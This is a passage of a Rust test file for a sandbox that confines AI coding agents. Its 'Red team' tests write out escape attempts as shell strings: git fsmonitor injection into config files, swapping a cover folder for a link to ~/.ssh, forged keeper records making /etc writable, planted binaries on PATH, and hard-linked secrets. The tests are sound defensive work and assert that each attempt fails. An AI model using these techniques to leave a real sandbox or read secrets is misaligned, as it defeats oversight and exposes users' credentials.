    let again = keeper_record(&r).expect("a new keeper record");
    assert_ne!(record_body(&again)["pid"].as_i64().unwrap(), keeper);
}

/// A cover does not survive its path being replaced outside (docs/sandbox.md, Limits): `git
/// config` renames a new `.git/config` over the old one, and the kept namespace loses its
/// read-only bind there. The next command must not join that namespace, where `.git/config`
/// would now be writable, but build its own.
#[test]
fn a_kept_namespace_whose_cover_was_replaced_outside_is_not_joined() {
    if skip_or_fail("a_kept_namespace_whose_cover_was_replaced_outside_is_not_joined")
        || no_keyring("a_kept_namespace_whose_cover_was_replaced_outside_is_not_joined")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let first = in_session(&r, &["sh", "-c", &marking("first", &[], "")]);
    assert!(keeper_record(&r).is_some(), "{first:?}");
    r.git(&["config", "user.name", "Grace Hopper"]);
    let config = r.read(".git/config");
    let second = in_session(
        &r,
        &["sh", "-c", &marking("second", &["first"], WRITE_CONTROL)],
    );
    assert!(!saw(&second, "first"), "{second:?}");
    assert_eq!(r.read(".git/config"), config, "{second:?}");
    assert!(!r.exists(".forge/planted"));
    // The namespace built instead is kept in turn.
    let third = in_session(&r, &["sh", "-c", &marking("third", &["second"], "")]);
    assert!(saw(&third, "second"), "{third:?}");
}

/// A record is trusted only as far as it can be checked: one naming a process whose namespace
/// lacks the plan's binds (here `unshare -m`, a plain copy of the host's table) is not joined,
/// nor is a record in a folder someone else may write.
#[test]
fn a_forged_keeper_record_is_not_joined() {
    if skip_or_fail("a_forged_keeper_record_is_not_joined")
        || no_keyring("a_forged_keeper_record_is_not_joined")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let first = in_session(&r, &["sh", "-c", &marking("first", &[], "")]);
    let record = keeper_record(&r).expect("a keeper record");
    let real = std::fs::read_to_string(&record).unwrap();
    let mut impostor = Command::new("unshare")
        .args(["-m", "--propagation", "private", "sleep", "60"])
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let ino = |ns: &str| {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(format!("/proc/{}/ns/{ns}", impostor.id()))
            .unwrap()
            .ino()
    };
    let mut forged = record_body(&record);
    forged["pid"] = impostor.id().into();
    for ns in ["mnt", "ipc", "user"] {
        forged[ns] = ino(ns).into();
    }
    // Sealed as Forge would seal it (no sandboxed process can: the key is in the keyring), so
    // the checks behind the seal are what refuse it: the impostor's table lacks the covers.
    std::fs::write(&record, sealed(&forged.to_string())).unwrap();
    let config = r.read(".git/config");
    let second = in_session(
        &r,
        &[
            "sh",
            "-c",
            &format!("readlink /proc/self/ns/mnt; {WRITE_CONTROL}"),
        ],
    );
    let impostor_ns = std::fs::read_link(format!("/proc/{}/ns/mnt", impostor.id())).unwrap();
    let _ = impostor.kill();
    let _ = impostor.wait();
    let ns = String::from_utf8_lossy(&second.stdout);
    assert!(
        !ns.starts_with(&*impostor_ns.to_string_lossy()),
        "{second:?}"
    );
    assert_eq!(r.read(".git/config"), config, "{second:?}");
    assert!(!r.exists(".forge/planted"));

    // The first keeper's own record again, in a folder its group may write: not trusted either.
    let third = in_session(&r, &["sh", "-c", &marking("third", &[], "")]);
    std::fs::write(&record, &real).unwrap();
    let dir = record.parent().unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o770)).unwrap();
    let fourth = in_session(
        &r,
        &["sh", "-c", &marking("fourth", &["first", "third"], "")],
    );
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    assert!(first.status.success() && third.status.success());
    assert!(
        !saw(&fourth, "first") && !saw(&fourth, "third"),
        "{fourth:?}"
    );
}

/// `sandbox.reuse: false`: every command makes a namespace of its own, and no keeper is left.
#[test]
fn reuse_off_makes_a_namespace_per_command() {
    if skip_or_fail("reuse_off_makes_a_namespace_per_command") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let mut config = r.read(".forge/config.yaml");
    config.push_str("sandbox:\n  reuse: false\n");
    r.config(&config);
    let first = in_session(&r, &["sh", "-c", &marking("first", &[], "")]);
    let second = in_session(&r, &["sh", "-c", &marking("second", &["first"], "")]);
    assert!(first.status.success(), "{first:?}");
    assert!(!saw(&second, "first"), "{second:?}");
    assert!(keeper_record(&r).is_none());
}

/// A kept plan is reused only while what it was read from is unchanged: a credential saved
/// after it was made (`npm login` writes `~/.npmrc`), or a `.env` made at the project's root,
/// is hidden from the next command as from a namespace made afresh. (Each command of this test
/// leaves a record; the second one, made more than two seconds after anything changed, is the
/// first that vouches for its plan.)
#[test]
fn a_secret_saved_after_the_plan_was_kept_is_hidden() {
    if skip_or_fail("a_secret_saved_after_the_plan_was_kept_is_hidden")
        || no_keyring("a_secret_saved_after_the_plan_was_kept_is_hidden")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let run = |script: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "sh", "-c", script])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("HOME", &home)
            .output()
            .unwrap()
    };
    let first = run(&marking("first", &[], ""));
    assert!(first.status.success(), "{first:?}");
    std::thread::sleep(std::time::Duration::from_millis(2500));
    let second = run(&marking("second", &["first"], ""));
    assert!(saw(&second, "first"), "{second:?}");
    let rec = record_body(&keeper_record(&r).unwrap());
    assert!(
        rec["witnesses"].is_array(),
        "the plan is vouched for: {rec}"
    );
    std::fs::write(
        home.join(".npmrc"),
        "//registry.npmjs.org/:_authToken=NPM-TOKEN\n",
    )
    .unwrap();
    r.write(".env", "DATABASE_URL=postgres://u:DB-PASSWORD@h/db\n");
    let third = run("cat \"$HOME/.npmrc\" .env; echo done");
    let out = String::from_utf8_lossy(&third.stdout);
    assert!(out.contains("done"), "{third:?}");
    assert!(
        !out.contains("NPM-TOKEN") && !out.contains("DB-PASSWORD"),
        "{third:?}"
    );
}

/// A daemon that starts listening after a session's plan was vouched for and kept (a tmux
/// server started later) is covered too: the kernel's list of sockets is one of the plan's
/// witnesses, so the next command works the plan out again.
#[test]
fn a_daemon_started_after_the_plan_was_kept_is_covered() {
    if skip_or_fail("a_daemon_started_after_the_plan_was_kept_is_covered")
        || no_keyring("a_daemon_started_after_the_plan_was_kept_is_covered")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let dir = tempfile::Builder::new()
        .prefix("forge-daemon-")
        .tempdir_in("/tmp")
        .unwrap();
    let sock = dir.path().join("late");
    let home = dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let run = |script: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "sh", "-c", script])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("HOME", &home)
            .output()
            .unwrap()
    };
    // Until a call joins the namespace the one before it left (another test binding a socket
    // meanwhile makes the plan be worked out again, as it should).
    let mut kept = false;
    for i in 0..6 {
        let o = run(&marking(&format!("m{}", i + 1), &[&format!("m{i}")], ""));
        assert!(o.status.success(), "{o:?}");
        if saw(&o, &format!("m{i}")) {
            kept = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(2500));
    }
    assert!(kept, "no call joined a kept namespace");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let third = run(&format!("python3 -c '{CONNECT_PROBE}' {}", sock.display()));
    let out = String::from_utf8_lossy(&third.stdout);
    assert!(out.contains("refused"), "{third:?}");
}

/// In a shared `/tmp` anyone may make `forge-sandbox-<uid>` first, and whoever owns it could
/// swap the TMPDIRs, the empty folder bound over secrets or the staging of `/dev` beneath it
/// for links of their choosing: a sandbox folder another user owns, or others may write, is
/// refused (exit 125), not used.
#[test]
fn a_sandbox_folder_someone_else_made_is_refused() {
    if skip_or_fail("a_sandbox_folder_someone_else_made_is_refused") {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let uid = nix::unistd::getuid().as_raw();
    for (mode, owner) in [(0o777, None), (0o700, Some(65534))] {
        let r = common::Repo::with_command("true", "none");
        let base = r.tmp().join(format!("forge-sandbox-{uid}"));
        std::fs::create_dir_all(&base).unwrap();
        std::fs::set_permissions(&base, std::fs::Permissions::from_mode(mode)).unwrap();
        if let Some(o) = owner {
            if uid != 0 {
                continue; // only root can give a folder away
            }
            std::os::unix::fs::chown(&base, Some(o), Some(o)).unwrap();
        }
        let o = in_session(&r, &["sh", "-c", "echo ran"]);
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{o:?}");
        assert!(err.contains("only this user may write"), "{err}");
        assert!(!String::from_utf8_lossy(&o.stdout).contains("ran"));
    }
}

/// Red team, round 14: a cache folder that is a link to the temporary folder makes the keeper
/// records' folder writable inside the session (Landlock and the binds follow the link). What
/// is written there must not be joined: a record naming kthreadd (whose namespaces are the
/// host's) with a plan that writes `/etc`, nor — the forgery only the seal stops — the real
/// record with its witnesses taken out, which would keep a stale plan in use after a `.env`
/// appears.
#[test]
fn a_record_forged_through_a_writable_link_is_not_joined() {
    if skip_or_fail("a_record_forged_through_a_writable_link_is_not_joined")
        || no_keyring("a_record_forged_through_a_writable_link_is_not_joined")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::os::unix::fs::symlink(r.tmp(), home.join(".cache")).unwrap();
    let mut config = r.read(".forge/config.yaml");
    config.push_str("sandbox:\n  caches: [\"~/.cache\"]\n");
    r.config(&config);
    let run = |script: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "sh", "-c", script])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("HOME", &home)
            .output()
            .unwrap()
    };
    let uid = nix::unistd::getuid().as_raw();
    // Copies `text` over the record from inside the session, through the link.
    let plant = |text: &str, record: &Path| {
        let staged = r.tmp().join("forged-record");
        std::fs::write(&staged, text).unwrap();
        let key = record.file_name().unwrap().to_string_lossy().into_owned();
        let o = run(&format!(
            "cp {} ~/.cache/forge-sandbox-{uid}/keepers/.x && mv ~/.cache/forge-sandbox-{uid}/keepers/.x ~/.cache/forge-sandbox-{uid}/keepers/{key} && echo planted",
            staged.display()
        ));
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("planted"),
            "{o:?}"
        );
    };
    let first = run("true");
    assert!(first.status.success(), "{first:?}");
    let record = keeper_record(&r).expect("a keeper record");
    let ino = |ns: &str| {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(format!("/proc/2/ns/{ns}")).unwrap().ino()
    };
    let kthreadd = serde_json::json!({
        "key": record.file_name().unwrap().to_string_lossy(), "pid": 2,
        "mnt": ino("mnt"), "ipc": ino("ipc"), "user": ino("user"), "namespace": "x",
        "plan": {"places": [], "write": ["/etc", r.path(), home], "holes": [],
                 "read_inside_holes": [], "read_only": [], "pin": [], "hide": [],
                 "placeholders": [], "placeholder_files": [], "create_areas": [],
                 "rebind_writable": [], "tmpdir": "/tmp", "problems": [], "private_dev": false},
        "witnesses": []
    });
    plant(&format!("{}\n{kthreadd}", "0".repeat(64)), &record);
    let host = std::fs::read_link("/proc/self/ns/mnt").unwrap();
    let config = r.read(".git/config");
    let after = run(&format!("readlink /proc/self/ns/mnt; {WRITE_CONTROL}"));
    let out = String::from_utf8_lossy(&after.stdout);
    assert!(!out.starts_with(&*host.to_string_lossy()), "{after:?}");
    assert_eq!(r.read(".git/config"), config, "{after:?}");
    assert!(!r.exists(".forge/planted"));

    // The real record, its witnesses taken out, under its old seal; then a `.env` appears.
    let record = keeper_record(&r).expect("a keeper record");
    let text = std::fs::read_to_string(&record).unwrap();
    let (seal, _) = text.split_once('\n').unwrap();
    let mut body = record_body(&record);
    body["witnesses"] = serde_json::json!([]);
    plant(&format!("{seal}\n{body}"), &record);
    r.write(".env", "DATABASE_URL=postgres://u:DB-PASSWORD@h/db\n");
    let read = run("cat .env; echo done");
    let out = String::from_utf8_lossy(&read.stdout);
    assert!(
        out.contains("done") && !out.contains("DB-PASSWORD"),
        "{read:?}"
    );
}

/// Red team, round 14: a relative PATH entry (`bin`) is a folder of the working folder, kept
/// read-only where it exists; a session's `cd` moves it. A namespace kept from `sub/` (where
/// `sub/bin` was the PATH folder) must not be joined from the root, where `bin/` is.
#[test]
fn a_relative_path_folder_is_read_only_from_every_working_folder() {
    if skip_or_fail("a_relative_path_folder_is_read_only_from_every_working_folder")
        || no_keyring("a_relative_path_folder_is_read_only_from_every_working_folder")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    r.write("bin/keep", "#!/bin/sh\n");
    r.write("sub/bin/keep", "#!/bin/sh\n");
    let path = format!("bin:{}", std::env::var("PATH").unwrap_or_default());
    let run = |cwd: &Path, script: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--project"])
            .arg(r.path())
            .args(["--", "sh", "-c", script])
            .current_dir(cwd)
            .env("TMPDIR", r.tmp())
            .env("PATH", &path)
            .output()
            .unwrap()
    };
    let sub = r.path().join("sub");
    assert!(run(&sub, "true").status.success());
    std::thread::sleep(std::time::Duration::from_millis(2500));
    assert!(run(&sub, "true").status.success());
    let o = run(
        r.path(),
        "printf '#!/bin/sh\\necho PWNED\\n' > bin/git && echo wrote",
    );
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains("wrote"),
        "{o:?}"
    );
    assert!(!r.exists("bin/git"));
}

/// Red team, round 15: where the records' folder is writable inside (a cache folder linked into
/// the temporary folder), a FIFO put in a record's place must not hang the next command (the
/// record is opened without blocking and read only if it is a regular file).
#[test]
fn a_fifo_in_a_records_place_does_not_hang_the_next_command() {
    if skip_or_fail("a_fifo_in_a_records_place_does_not_hang_the_next_command")
        || no_keyring("a_fifo_in_a_records_place_does_not_hang_the_next_command")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    assert!(in_session(&r, &["true"]).status.success());
    let record = keeper_record(&r).expect("a keeper record");
    std::fs::remove_file(&record).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(&record)
            .status()
            .unwrap()
            .success()
    );
    let mut child = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "echo", "later"])
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut ended = None;
    for _ in 0..100 {
        if let Some(s) = child.try_wait().unwrap() {
            ended = Some(s);
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    if ended.is_none() {
        let _ = child.kill();
    }
    assert!(
        ended.is_some_and(|s| s.success()),
        "the command hung on the FIFO"
    );
}

/// Red team, round 15: a kept namespace is a copy of the caller's mount table as it was. A file
/// system the person unmounted since (a vault, a share) must not stay readable to the next
/// command, as a fresh copy would not show it either.
#[test]
fn a_file_system_unmounted_outside_is_gone_inside_too() {
    if skip_or_fail("a_file_system_unmounted_outside_is_gone_inside_too")
        || no_keyring("a_file_system_unmounted_outside_is_gone_inside_too")
    {
        return;
    }
    if !nix::unistd::getuid().is_root() {
        eprintln!("sandbox: not root here, the unmount case is not run");
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let vault = r.tmp().join("vault");
    std::fs::create_dir_all(&vault).unwrap();
    let mount = |args: &[&str]| Command::new(args[0]).args(&args[1..]).status().unwrap();
    assert!(mount(&["mount", "-t", "tmpfs", "vault", vault.to_str().unwrap()]).success());
    std::fs::write(vault.join("diary.txt"), "DECRYPTED-DATA\n").unwrap();
    let first = in_session(&r, &["cat", vault.join("diary.txt").to_str().unwrap()]);
    assert!(
        String::from_utf8_lossy(&first.stdout).contains("DECRYPTED"),
        "{first:?}"
    );
    std::thread::sleep(std::time::Duration::from_millis(2500));
    assert!(in_session(&r, &["true"]).status.success());
    assert!(mount(&["umount", vault.to_str().unwrap()]).success());
    let after = in_session(&r, &["cat", vault.join("diary.txt").to_str().unwrap()]);
    assert!(
        !String::from_utf8_lossy(&after.stdout).contains("DECRYPTED"),
        "{after:?}"
    );
}

/// Red team, round 15: a `~/.gitconfig` (or a client's settings file) that is a link into the
/// project — a dotfiles repository as the project — is git's config all the same: its target
/// is read-only inside, or the person's next `git` runs what a command appended.
#[test]
fn a_linked_gitconfig_is_read_only_at_its_target() {
    if skip_or_fail("a_linked_gitconfig_is_read_only_at_its_target") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    r.write("gitconfig", "[user]\n\tname = a\n");
    r.write("claude-settings.json", "{}\n");
    std::os::unix::fs::symlink(r.path().join("gitconfig"), home.join(".gitconfig")).unwrap();
    std::os::unix::fs::symlink(
        r.path().join("claude-settings.json"),
        home.join(".claude/settings.json"),
    )
    .unwrap();
    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sh", "-c"])
        .arg("echo '[core] fsmonitor = touch /tmp/pwned' >> gitconfig; echo '{\"hooks\":{}}' > claude-settings.json; echo done")
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .env("HOME", &home)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&o.stdout).contains("done"), "{o:?}");
    assert_eq!(r.read("gitconfig"), "[user]\n\tname = a\n", "{o:?}");
    assert_eq!(r.read("claude-settings.json"), "{}\n", "{o:?}");
}

/// Red team, round 15: the person's environment names a git config file in the project
/// (`GIT_CONFIG_GLOBAL`, a team's shared config); a session appended a `core.fsmonitor` to it
/// that their next `git status` would have run. It is read-only inside, like `.git/config`.
#[test]
fn the_git_config_gits_environment_names_is_read_only() {
    if skip_or_fail("the_git_config_gits_environment_names_is_read_only") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    r.write("team.gitconfig", "[team]\n\tx = a\n");
    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sh", "-c"])
        .arg("echo '[core] fsmonitor = touch /tmp/pwned' >> team.gitconfig; git config team.x; echo done")
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .env("GIT_CONFIG_GLOBAL", r.path().join("team.gitconfig"))
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("a\ndone"), "{o:?}");
    assert_eq!(r.read("team.gitconfig"), "[team]\n\tx = a\n", "{o:?}");
}

/// Red team, round 15: with the temporary folder inside the project (`TMPDIR=$repo/.tmp-sys`),
/// the sandbox's own folder is writable inside. One call swapped its `empty` folder (the cover
/// bound over secret folders) for a link to `~/.ssh`; the next call's namespace bound `~/.ssh`
/// over itself and printed the key. The cover is now checked through a descriptor before it
/// is bound: that call refuses to start instead.
#[test]
fn a_cover_swapped_for_a_link_to_a_secret_folder_is_refused() {
    if skip_or_fail("a_cover_swapped_for_a_link_to_a_secret_folder_is_refused") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    let key = "FORGE-DECOY-SSH-KEY-4c1e";
    std::fs::write(home.join(".ssh/id_ed25519"), key).unwrap();
    let tmp = r.path().join(".tmp-sys");
    std::fs::create_dir_all(&tmp).unwrap();
    let sandbox = |script: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "sh", "-c", script])
            .current_dir(r.path())
            .env("TMPDIR", &tmp)
            .env("HOME", &home)
            .output()
            .unwrap()
    };
    let swap = sandbox(
        "B=$(ls -d \"$(dirname \"$(dirname \"$TMPDIR\")\")\"); mv \"$B/empty\" \"$B/empty.old\" && ln -s \"$HOME/.ssh\" \"$B/empty\" && mkdir -p .vscode && echo swapped",
    );
    assert!(
        String::from_utf8_lossy(&swap.stdout).contains("swapped"),
        "{swap:?}"
    );
    let read = sandbox("cat \"$HOME/.ssh/id_ed25519\"; echo done");
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&read.stdout),
        String::from_utf8_lossy(&read.stderr)
    );
    assert!(!all.contains(key), "the key was read: {read:?}");
    assert!(all.contains("empty"), "{read:?}");
}

/// Red team, round 15: a bind keeps a path read-only or hidden, not a file. A name linked to
/// `.git/config` (by a leftover watching for git's `config.lock`, before git renamed it into
/// place) wrote the person's git config from inside; an `.env` linked before it held a secret
/// was read through its other name. A control file or a secret with more than one name makes
/// the sandbox refuse to start, in every mode, naming it.
#[test]
fn a_control_file_or_secret_with_a_second_name_refuses_the_sandbox() {
    if skip_or_fail("a_control_file_or_secret_with_a_second_name_refuses_the_sandbox") {
        return;
    }
    // A file itself, and a file inside a control folder: a hook written in `.githooks/` and
    // linked to `notes.txt` before the person named the folder in `core.hooksPath`.
    for (file, other) in [
        (".git/config", ".git/objects/cfg"),
        (".env", "notes.dat"),
        (".githooks/pre-commit", "notes.txt"),
    ] {
        let r = common::Repo::with_command("true", "none");
        if file == ".env" {
            r.write(".env", "API_KEY=FORGE-DECOY-5b2d\n");
        }
        if file == ".githooks/pre-commit" {
            r.write(file, "#!/bin/sh\necho FORGE-DECOY-hook\n");
            let o = Command::new("git")
                .args(["config", "core.hooksPath", ".githooks"])
                .current_dir(r.path())
                .output()
                .unwrap();
            assert!(o.status.success(), "{o:?}");
        }
        std::fs::hard_link(r.path().join(file), r.path().join(other)).unwrap();
        let before = r.read(file);
        let o = Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "sh", "-c"])
            .arg(format!(
                "cat {other}; echo '[core] fsmonitor = touch /tmp/pwned' >> {other}; echo ran"
            ))
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!out.contains("ran"), "{file}: {o:?}");
        assert!(!out.contains("FORGE-DECOY"), "{file}: {o:?}");
        assert!(
            err.contains("hard links") && err.contains(file),
            "{file}: {o:?}"
        );
        assert_eq!(r.read(file), before, "{file}: {o:?}");
        assert_ne!(o.status.code(), Some(0), "{file}: {o:?}");
    }
}

/// The project's secrets are found by name at any depth (red team, round 15): a nested `.env`
/// folder, a link named `.env` to a file of the project; a link that leads nowhere or to `/proc`
/// hides nothing and stops nothing (it used to stop every command).
#[test]
fn secrets_by_name_below_the_top_are_hidden_and_odd_links_stop_nothing() {
    if skip_or_fail("secrets_by_name_below_the_top_are_hidden_and_odd_links_stop_nothing") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    // A secret named from the project's root in `sandbox.secrets`.
    r.config("verify:\n  commands:\n    - {name: test, run: 'true'}\nsandbox:\n  secrets: [deploy/creds.yaml]\n");
    r.write("deploy/creds.yaml", "pw: FORGE-DECOY-configured\n");
    r.write("store/.env.web", "FORGE-DECOY-web\n");
    // A link named as a secret to a file that is not one hides nothing (an agent's link must
    // not choose what is covered).
    std::os::unix::fs::symlink(r.path().join("src/lib.rs"), r.path().join(".env.code")).unwrap();
    r.write("services/billing/.env/prod", "FORGE-DECOY-billing\n");
    r.write("services/api/.env.production", "FORGE-DECOY-api\n");
    r.write("py/.env/pyvenv.cfg", "home = /usr/bin\n");
    r.write("src/lib.rs", "// FORGE-DECOY-code-is-readable\n");
    std::fs::create_dir_all(r.path().join("services/web")).unwrap();
    std::os::unix::fs::symlink(
        r.path().join("store/.env.web"),
        r.path().join("services/web/.env"),
    )
    .unwrap();
    std::os::unix::fs::symlink("/nonexistent", r.path().join(".env.dangling")).unwrap();
    std::os::unix::fs::symlink("/proc", r.path().join(".env.proc")).unwrap();
    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sh", "-c"])
        .arg("grep -r FORGE-DECOY . 2>&1; cat services/web/.env py/.env/pyvenv.cfg; head -1 /proc/self/status; echo ran")
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{o:?}");
    assert!(out.contains("ran") && out.contains("Name:"), "{o:?}");
    assert!(out.contains("FORGE-DECOY-code-is-readable"), "{o:?}");
    assert!(
        out.contains("home = /usr/bin"),
        "a virtual environment is not hidden: {o:?}"
    );
    for s in [
        "FORGE-DECOY-web",
        "FORGE-DECOY-billing",
        "FORGE-DECOY-api",
        "FORGE-DECOY-configured",
    ] {
        assert!(!out.contains(s), "{s}: {o:?}");
    }
}

/// Every path under `root`, sorted, as `find` lists them (what "a trace" is compared on).
fn tree(root: &Path) -> Vec<String> {
    let o = Command::new("find")
        .arg(".")
        .current_dir(root)
        .output()
        .unwrap();
    let mut v: Vec<String> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    v.sort();
    v
}

/// A plain git repository (no Forge config) in `t/repo`, and its TMPDIR `t/tmp`.
fn fresh_repo(t: &Path) -> std::path::PathBuf {
    let repo = t.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::create_dir_all(t.join("tmp")).unwrap();
    let ok = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&repo)
        .status()
        .unwrap()
        .success();
    assert!(ok);
    std::fs::write(repo.join("README.md"), "hello\n").unwrap();
    repo
}

fn sandboxed(repo: &Path, t: &Path, args: &[&str], cmd: &[&str]) -> std::process::Output {
    Command::new(forge_bin())
        .arg("sandbox")
        .args(args)
        .arg("--")
        .args(cmd)
        .current_dir(repo)
        .env("TMPDIR", t.join("tmp"))
        .output()
        .unwrap()
}

/// Ends the session's keeper, as its idle time would (src/sandbox/keeper.rs), so the test
/// need not wait two minutes for it.
fn end_keeper(t: &Path) {
    let Ok(base) = std::fs::read_dir(t.join("tmp")) else {
        return;
    };
    for b in base.flatten() {
        let Ok(records) = std::fs::read_dir(b.path().join("keepers")) else {
            continue;
        };
        for rec in records.flatten() {
            let Ok(text) = std::fs::read_to_string(rec.path()) else {
                continue;
            };
            let body = text.split_once('\n').map_or("", |(_, b)| b);
            let Ok(v) = serde_json::from_str::<serde_json::Value>(body) else {
                continue;
            };
            if let Some(pid) = v["pid"].as_i64().filter(|p| *p > 0) {
                let _ = Command::new("kill").arg(pid.to_string()).status();
            }
        }
    }
}

/// Waits (up to 20 s) for `f` to hold.
fn eventually(what: &str, mut f: impl FnMut() -> bool) {
    let start = std::time::Instant::now();
    while !f() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "never came true: {what}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Issue 34, point 9: what the sandbox makes to pin a control path that does not exist yet
/// (`.claude/`, `.codex/`, `.gemini/`, `.git/modules`, `.tmp/.forge`, …) is gone from the
/// project once the sandboxes that needed it have ended — and while one runs, a command inside
/// still cannot create what those paths protect.
#[test]
fn the_sandbox_leaves_no_trace_in_the_project() {
    if skip_or_fail("the_sandbox_leaves_no_trace_in_the_project") {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let repo = fresh_repo(t.path());
    let before = tree(&repo);
    let o = sandboxed(&repo, t.path(), &["--profile", "session"], &["true"]);
    assert!(o.status.success(), "{o:?}");
    end_keeper(t.path());
    eventually("the session leaves the project as it was", || {
        tree(&repo) == before
    });
    let o = sandboxed(
        &repo,
        t.path(),
        &["--profile", "check", "--write", repo.to_str().unwrap()],
        &["true"],
    );
    assert!(o.status.success(), "{o:?}");
    eventually("the check leaves the project as it was", || {
        tree(&repo) == before
    });
    // While a sandbox runs, the pinned paths hold.
    for profile in [
        &["--profile", "session"][..],
        &["--profile", "check", "--write", repo.to_str().unwrap()][..],
    ] {
        let o = sandboxed(
            &repo,
            t.path(),
            profile,
            &[
                "sh",
                "-c",
                "for p in .claude/settings.json .codex/config.toml .gemini/settings.json \
                 .git/hooks/pre-commit .git/info/attributes; do \
                 mkdir -p \"$(dirname $p)\" 2>/dev/null; echo x > $p 2>/dev/null && echo \"made $p\"; \
                 done; echo done",
            ],
        );
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(out.contains("done"), "{o:?}");
        assert!(!out.contains("made"), "{profile:?}: {o:?}");
        end_keeper(t.path());
        eventually("the project is as it was", || tree(&repo) == before);
    }
}

/// A person who makes a pinned folder their own while a session's namespace is kept keeps
/// it: the commands of the session cannot change what they put there, and the folder stays
/// when the session ends.
#[test]
fn a_control_folder_the_person_fills_meanwhile_is_kept_and_protected() {
    if skip_or_fail("a_control_folder_the_person_fills_meanwhile_is_kept_and_protected") {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let repo = fresh_repo(t.path());
    let o = sandboxed(&repo, t.path(), &["--profile", "session"], &["true"]);
    assert!(o.status.success(), "{o:?}");
    // The person, outside any sandbox.
    std::fs::create_dir_all(repo.join(".claude")).unwrap();
    std::fs::write(repo.join(".claude/settings.json"), "{}\n").unwrap();
    let o = sandboxed(
        &repo,
        t.path(),
        &["--profile", "session"],
        &[
            "sh",
            "-c",
            "echo '{\"hooks\":{}}' > .claude/settings.json; rm -f .claude/settings.json; \
             echo x > .claude/settings.local.json; echo done",
        ],
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("done"), "{o:?}");
    assert_eq!(
        std::fs::read_to_string(repo.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(!repo.join(".claude/settings.local.json").exists());
    end_keeper(t.path());
    eventually("the empty pins go", || !repo.join(".codex").exists());
    assert_eq!(
        std::fs::read_to_string(repo.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
}

/// A person's git identity set in the environment reaches a sandboxed command (`_AUTH` is not
/// a word of `GIT_AUTHOR_NAME`), so an agent's commits keep it.
#[test]
fn the_git_identity_in_the_environment_reaches_the_command() {
    if skip_or_fail("the_git_identity_in_the_environment_reaches_the_command") {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let repo = fresh_repo(t.path());
